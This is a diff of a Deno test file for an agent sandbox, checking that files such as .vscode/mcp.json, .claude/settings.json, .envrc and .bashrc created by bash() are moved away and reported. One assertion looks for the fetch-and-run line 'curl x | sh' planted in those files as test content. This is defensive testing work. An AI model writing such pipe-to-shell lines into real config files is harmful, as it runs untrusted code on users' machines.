@@ -44,7 +44,7 @@ function out(r: DispatchResult): string {
   return r.output;
 }
 
-Deno.test("bash() in the sandbox: other tools' config cannot be changed or created; the rest of .vscode stays open", async () => {
+Deno.test("bash() in the sandbox: other tools' config cannot be changed, what is created is moved away; the rest of .vscode stays open", async () => {
   using p = place();
   Deno.mkdirSync(join(p.ws, ".vscode"));
   Deno.writeTextFileSync(join(p.ws, ".vscode/tasks.json"), "{}\n");
@@ -59,17 +59,17 @@ Deno.test("bash() in the sandbox: other tools' config cannot be changed or creat
     ].join("; ")),
   );
   assert.match(r, /tasks=1/);
-  assert.match(r, /vmcp=1/);
   assert.match(r, /ext=0/);
-  assert.match(r, /claude=1/);
-  assert.match(r, /envrc=1/);
-  assert.match(r, /bashrc=1/);
-  assert.equal(Deno.readTextFileSync(join(p.ws, ".vscode/tasks.json")), "{}\n");
-  assert.equal(existsSync(join(p.ws, ".vscode/mcp.json")), false);
-  assert.equal(Deno.readTextFileSync(join(p.ws, ".vscode/extensions.json")), "{}\n");
-  for (const gone of [".claude", ".envrc", ".bashrc", ".cursor", ".gemini"]) {
-    assert.equal(existsSync(join(p.ws, gone)), false, gone);
+  // Missing ones are free to create inside, and moved away after the call, saying where.
+  for (const rel of [".vscode/mcp.json", ".claude/settings.json", ".envrc", ".bashrc"]) {
+    assert.match(r, new RegExp(`created ${rel.replace(".", "\\.")}, a protected path`), rel);
+    assert.equal(existsSync(join(p.ws, rel)), false, rel);
   }
+  assert.equal(Deno.readTextFileSync(join(p.ws, ".vscode/tasks.json")), "{}\n");
+  assert.equal(Deno.readTextFileSync(join(p.ws, ".vscode/extensions.json")), "{}\n");
+  const moved = r.match(/crab moved it to (\S+)\./g)!.map((m) => m.slice(17, -1));
+  assert.equal(moved.length, 4);
+  assert.ok(moved.some((m) => Deno.readTextFileSync(m).includes("curl x | sh")));
 });
 
 Deno.test("bash() in the sandbox: a protected name that is a symlink is put back when replaced", async () => {
